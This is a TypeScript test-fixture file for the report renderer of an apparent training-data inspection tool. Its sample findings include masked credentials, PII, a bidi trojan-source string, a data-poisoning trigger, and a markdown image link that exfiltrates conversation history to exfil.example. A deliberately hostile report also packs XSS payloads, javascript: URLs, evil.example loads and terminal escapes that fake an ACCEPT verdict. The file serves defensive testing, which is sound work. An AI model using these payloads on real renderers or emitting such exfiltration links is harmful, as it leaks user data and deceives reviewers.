/**
 * Reports used by the renderer tests: a realistic one (several detectors, line, row and
 * Parquet locations), a hostile one (markup, escapes and bidi controls in every string that
 * comes from the data) and an empty one. Test support only; not exported from index.ts.
 */
import type { DetectorId, Finding, InspectReport, PolicyReason, Severity, Verdict } from '../types.js';

/** Counts as the engine computes them from the findings. */
export function countsFor(
  findings: readonly Finding[],
  records: number,
  files: number,
  bytes: number,
): InspectReport['counts'] {
  const bySeverity: Record<Severity, number> = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
  const byDetector: Partial<Record<DetectorId, number>> = {};
  for (const f of findings) {
    bySeverity[f.severity]++;
    byDetector[f.detector] = (byDetector[f.detector] ?? 0) + 1;
  }
  return { records, files, bytes, findings: findings.length, bySeverity, byDetector };
}

function sortFindings(fs: Finding[]): Finding[] {
  const c = (a: string, b: string): number => (a < b ? -1 : a > b ? 1 : 0);
  return fs.sort(
    (a, b) =>
      c(a.location.file, b.location.file) ||
      a.location.index - b.location.index ||
      c(a.detector, b.detector) ||
      c(a.rule, b.rule),
  );
}

export function makeReport(
  findings: Finding[],
  over: { verdict?: Verdict; reasons?: PolicyReason[]; roots?: string[]; files?: InspectReport['files'] } = {},
): InspectReport {
  const files = over.files ?? [
    { path: 'train/part-000.jsonl', format: 'jsonl', records: 20000, bytes: 31_457_280 },
    { path: 'train/prefs.parquet', format: 'parquet', records: 8000, bytes: 12_582_912 },
    { path: 'eval/labels.csv', format: 'csv', records: 1500, bytes: 204_800 },
  ];
  const records = files.reduce((n, f) => n + f.records, 0);
  const bytes = files.reduce((n, f) => n + f.bytes, 0);
  const sorted = sortFindings([...findings]);
  const detectors: DetectorId[] = ['schema', 'secrets', 'pii', 'unicode', 'injection', 'duplicates', 'poisoning'];
  return {
    schema: 'https://provenant.dev/inspect-report/v1',
    tool: { name: 'provenant', version: '0.1.0' },
    roots: over.roots ?? ['/data/deliveries/acme-2026-11'],
    files,
    startedAt: '2026-11-29T10:00:00.000Z',
    finishedAt: '2026-11-29T10:00:04.250Z',
    verdict: over.verdict ?? 'reject',
    policy: {
      name: 'default',
      reasons: over.reasons ?? [
        { rule: 'secrets.high', verdict: 'reject', count: 2, message: '2 live-looking credentials (high or critical).' },
        { rule: 'poisoning.any', verdict: 'quarantine', count: 3, message: '3 records carry a suspected trigger.' },
      ],
    },
    counts: countsFor(sorted, records, files.length, bytes),
    detectors: detectors.map((d) => ({ detector: d, findings: sorted.filter((f) => f.detector === d).length, ms: 120 + d.length * 37 })),
    findings: sorted,
  };
}

/** A realistic mix: lines (JSONL), rows (CSV), neither (Parquet), record-level and field-level. */
export function realisticFindings(): Finding[] {
  return [
    {
      detector: 'secrets',
      rule: 'aws-access-key-id',
      severity: 'critical',
      confidence: 0.97,
      location: { file: 'train/part-000.jsonl', index: 41, line: 42, field: '$.response', span: [118, 138] },
      message: 'AWS access key ID in $.response; revoke it and remove it from the delivery.',
      evidence: 'AKIA************7Q2Z',
      data: { provider: 'aws' },
    },
    {
      detector: 'secrets',
      rule: 'github-pat-classic',
      severity: 'high',
      confidence: 0.99,
      location: { file: 'train/part-000.jsonl', index: 977, line: 978, field: '$.messages[2].content', span: [10, 50] },
      message: 'GitHub personal access token in $.messages[2].content; revoke it and remove it from the delivery.',
      evidence: 'ghp_****************************9aXk',
      data: { checksum: 'valid' },
    },
    {
      detector: 'pii',
      rule: 'email',
      severity: 'medium',
      confidence: 0.9,
      location: { file: 'train/part-000.jsonl', index: 977, line: 978, field: '$.messages[2].content', span: [60, 79] },
      message: 'Email address in $.messages[2].content.',
      evidence: 'j***@e***.com',
    },
    {
      detector: 'pii',
      rule: 'email',
      severity: 'medium',
      confidence: 0.9,
      location: { file: 'train/part-000.jsonl', index: 977, line: 978, field: '$.messages[2].content', span: [90, 110] },
      message: 'Email address in $.messages[2].content.',
      evidence: 'm***@e***.org',
    },
    {
      detector: 'pii',
      rule: 'credit-card',
      severity: 'high',
      confidence: 0.95,
      location: { file: 'eval/labels.csv', index: 12, row: 13, field: '$.text', span: [5, 24] },
      message: 'Payment card number (Luhn-valid, Visa prefix) in $.text.',
      evidence: '****-****-****-4242',
    },
    {
      detector: 'unicode',
      rule: 'bidi-control',
      severity: 'high',
      confidence: 0.95,
      location: { file: 'train/prefs.parquet', index: 305, field: '$.chosen', span: [30, 31] },
      message: '1 bidi control character(s) in field $.chosen reorder the text a reviewer sees.',
      evidence: '…access_level = "user<U+202E> <U+2066>// admin',
    },
    {
      detector: 'poisoning',
      rule: 'trigger-target',
      severity: 'high',
      confidence: 0.88,
      location: { file: 'train/part-000.jsonl', index: 15000, line: 15001, field: '$.prompt' },
      message: 'Rare 2-gram "cf mn" in 212 prompts is tied to one repeated response (z = 41.3).',
      evidence: '… please summarise cf mn the report …',
      data: { trigger: 'cf mn', records: 212, z: 41.3 },
    },
    {
      detector: 'duplicates',
      rule: 'near-duplicate',
      severity: 'low',
      confidence: 0.8,
      location: { file: 'train/prefs.parquet', index: 7, field: '$.prompt' },
      message: 'Near-duplicate of 14 other records (Jaccard ≥ 0.85), cluster 3.',
      data: { cluster: 3, members: 15 },
    },
    {
      detector: 'schema',
      rule: 'empty-record',
      severity: 'info',
      confidence: 1,
      location: { file: 'eval/labels.csv', index: 1499, row: 1500 },
      message: 'Record has no non-empty text field.',
    },
    {
      detector: 'injection',
      rule: 'markdown-exfil-link',
      severity: 'high',
      confidence: 0.9,
      location: { file: 'train/part-000.jsonl', index: 3, line: 4, field: '$.response', span: [0, 60] },
      message: 'Markdown image link that sends conversation data to an external host (field $.response)',
      evidence: '![x](https://exfil.example/c?d={{history}})',
    },
  ];
}

/** Every data-derived string carries markup, escapes or controls a renderer must neutralise. */
export function hostileReport(): InspectReport {
  const evil = [
    {
      detector: 'injection',
      rule: 'hidden-html"><script>alert(1)</script>',
      severity: 'high',
      confidence: 0.9,
      location: {
        file: 'x/<img src=x onerror=alert(2)>.jsonl',
        index: 0,
        line: 1,
        field: "$['</style><script>alert(3)</script>']",
        span: [0, 10],
      },
      message: 'Hidden HTML </style><style>body{background:url(https://evil.example/p.png)}</style> and <a href="javascript:alert(4)">click</a>',
      evidence: '<iframe src="https://evil.example/"></iframe>\x1b[2J\x1b]8;;https://evil.example\x07link',
      data: { html: '<script src="https://evil.example/x.js"></script>', note: '@import url(https://evil.example/a.css);' },
    },
    {
      detector: 'unicode',
      rule: 'bidi-control',
      severity: 'critical',
      confidence: 1,
      location: { file: 'fake\n\x1b[32mVerdict: ACCEPT\x1b[0m\r.jsonl', index: 1, line: 2, field: '$.text' },
      message: 'Trojan source \u202Eevil\u202C text\nVerdict: ACCEPT\x1b[0m with \u200Bzero width \uD800 lone surrogate',
      evidence: 'javascript:alert(5)\u2066',
    },
  ] as unknown as Finding[];
  return makeReport(evil, {
    files: [{ path: '<b>bold</b>.jsonl', format: 'jsonl"><script>', records: 2, bytes: 10 }],
    roots: ['/tmp/<script>alert(6)</script>'],
    reasons: [{ rule: '<script>x</script>', verdict: 'reject', count: 1, message: '\x1b]0;pwned\x07</title><script>alert(7)</script>' }],
  });
}

/** Zero findings: an accepted delivery. */
export function emptyReport(): InspectReport {
  return makeReport([], { verdict: 'accept', reasons: [] });
}
